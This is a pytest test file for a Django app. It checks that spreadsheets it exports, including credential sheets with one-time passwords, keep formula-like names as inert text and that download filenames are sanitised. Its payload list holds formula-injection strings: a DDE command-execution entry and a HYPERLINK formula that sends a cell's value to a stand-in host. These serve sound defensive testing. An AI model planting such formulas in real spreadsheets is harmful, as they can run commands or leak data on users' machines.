"""Every .xlsx the app hands out stores text as text: a name can never become a live formula."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from decimal import Decimal
from urllib.parse import unquote

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from config.spreadsheets import (
    FORMULA_START,
    Sheet,
    attachment_header,
    workbook_bytes,
    workbook_response,
)
from members.models import User
from tests.factories import make_department, make_person

PAYLOADS = [
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    '=HYPERLINK("http://x"&D3,"点此核对")',
]
HEADER = ["姓名", "工号", "性别", "部门", "岗位", "手机", "政治面貌", "入党日期", "角色"]


def assert_text_only(content: bytes) -> list[list[object]]:
    """No formula anywhere, and every formula-looking string is a text cell Excel keeps as text.

    Checked three ways: the raw sheet XML has no <f> element; openpyxl reads no cell as a formula
    (data_type "f"), and each string that starts like a formula is a string cell with Excel's quote
    prefix (what Excel itself stores for '=1+1); and it stays text when openpyxl saves it again.
    Returns the values of every sheet, for further checks.
    """
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name)
                assert b"<f>" not in xml and b"<f " not in xml, name
    wb = load_workbook(io.BytesIO(content))
    values = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_START):
                    assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
            values.append([c.value for c in row])
    again = io.BytesIO()
    wb.save(again)
    reread = load_workbook(io.BytesIO(again.getvalue()))
    assert all(c.data_type != "f" for ws in reread.worksheets for r in ws.iter_rows() for c in r)
    return values


# --- The writer ----------------------------------------------------------------------------------


def test_the_writer_keeps_every_payload_as_the_exact_text():
    rows = [[p, p, "#N/A", "普通文字"] for p in PAYLOADS]
    content = workbook_bytes(Sheet(title="测试", headers=["甲", "乙", "丙", "丁"], rows=rows))
    values = assert_text_only(content)
    assert values[0] == ["甲", "乙", "丙", "丁"]
    # Exact, "\r" included: openpyxl writes through lxml, which escapes it (&#13;).
    assert [row[0] for row in values[1:]] == list(PAYLOADS)
    ws = load_workbook(io.BytesIO(content)).active
    assert ws["C2"].data_type == "s" and ws["C2"].value == "#N/A"  # not an error cell either


def test_the_writer_keeps_numbers_dates_and_money_as_real_cells():
    stamp = timezone.make_aware(dt.datetime(2011, 5, 16, 9, 30))
    sheet = Sheet(
        title="采购/台账?",  # characters Excel forbids in a sheet name
        title_row="2011年读书活动采购台账",
        headers=["日期", "时间", "数量", "金额", "是否", "空", "控制"],
        rows=[[dt.date(2011, 5, 16), stamp, 12, Decimal("456.50"), True, None, "岗\x0b位"]],
        widths=[None, 20],
    )
    ws = load_workbook(io.BytesIO(workbook_bytes(sheet))).active
    assert ws.title == "采购 台账"
    assert ws["A1"].value == "2011年读书活动采购台账" and "A1:G1" in ws.merged_cells
    assert [c.value for c in ws[2]] == sheet.headers and ws["A2"].font.b
    assert ws.freeze_panes == "A3"
    assert ws["A3"].value == dt.datetime(2011, 5, 16) and ws["A3"].is_date
    assert ws["A3"].number_format == 'yyyy"年"m"月"d"日"'
    assert ws["B3"].value == dt.datetime(2011, 5, 16, 9, 30)  # local time, Excel has no zones
    assert ws["C3"].value == 12 and ws["C3"].data_type == "n"
    assert ws["D3"].value == pytest.approx(456.5) and ws["D3"].number_format == "#,##0.00"
    assert ws["E3"].value == "是" and ws["F3"].value is None and ws["G3"].value == "岗位"
    assert ws.column_dimensions["B"].width == 20
    assert ws.column_dimensions["A"].width >= 12  # sized from the content


def test_the_response_is_a_named_uncached_download():
    response = workbook_response("一次性密码.xlsx", Sheet(title="表", headers=["姓名"]))
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    disposition = response["Content-Disposition"]
    assert disposition.startswith('attachment; filename="download.xlsx"; ')
    encoded = disposition.split("filename*=UTF-8''", 1)[1]
    assert unquote(encoded) == "一次性密码.xlsx" and encoded.isascii()
    assert response["Cache-Control"] == "no-store"
    assert 'filename="2011-ledger.xlsx"' in attachment_header("2011 台账 ledger.xlsx")
    hostile = attachment_header('a"b\r\n.xlsx')
    assert 'filename="a-b.xlsx"' in hostile and "\r" not in hostile and "\n" not in hostile


# --- Every spreadsheet the app produces ----------------------------------------------------------


def _csv(rows):
    buf = io.StringIO()
    csv.writer(buf).writerows([HEADER, *rows])
    return SimpleUploadedFile("people.csv", buf.getvalue().encode("utf-8-sig"))


def test_credentials_after_an_import_hold_names_as_text(secretary_client, branch):
    # Employee numbers may start with - + @ too: they are login names and must survive exactly.
    numbers = ["-2+3", "+100", "@A1", "XT01", "XT02", "XT03", "XT04"]
    rows = [
        [name, no, "", name, "", "", "群众", "", ""]
        for name, no in zip(PAYLOADS, numbers, strict=True)
    ]
    response = secretary_client.post(reverse("members:person_import"), {"file": _csv(rows)})
    assert response.status_code == 302, response.context and response.context["form"].errors
    download = secretary_client.post(reverse("members:credentials_download"))
    assert download.status_code == 200
    assert "filename*=UTF-8''" in download["Content-Disposition"]
    values = assert_text_only(download.content)
    assert values[0] == ["姓名", "部门", "登录名", "一次性密码"]
    people = {v[2]: v for v in values[1 : 1 + len(PAYLOADS)]}
    assert set(people) == set(numbers)
    for no, person in people.items():
        user = User.objects.get(username=no)
        assert person[0] == user.full_name and person[1] == user.department.name
        assert user.check_password(person[3])
    assert people["XT04"][0] == '=HYPERLINK("http://x"&D3,"点此核对")'


@pytest.mark.parametrize("payload", PAYLOADS)
def test_credentials_after_a_password_reset_hold_the_name_as_text(
    secretary_client, branch, payload
):
    person = make_person(branch, full_name=payload, department=make_department(branch, payload))
    secretary_client.post(reverse("members:person_reset_password", args=[person.pk]))
    download = secretary_client.post(reverse("members:credentials_download"))
    values = assert_text_only(download.content)
    expected = payload
    assert values[1][:3] == [expected, expected, person.username]


def test_the_import_template_is_text_only_and_frozen(secretary_client):
    response = secretary_client.get(reverse("members:import_template"))
    assert response.status_code == 200
    assert "filename*=UTF-8''" in response["Content-Disposition"]
    values = assert_text_only(response.content)
    assert values[0] == HEADER
    wb = load_workbook(io.BytesIO(response.content))
    assert wb.sheetnames == ["人员", "填写说明"]
    assert wb["人员"].freeze_panes == "A2" and wb["人员"].max_row == 1, "no example among the data"
    phone = wb["填写说明"]["C7"]  # the example 手机, on the notes sheet
    assert phone.value == "13912345678" and phone.data_type == "s"
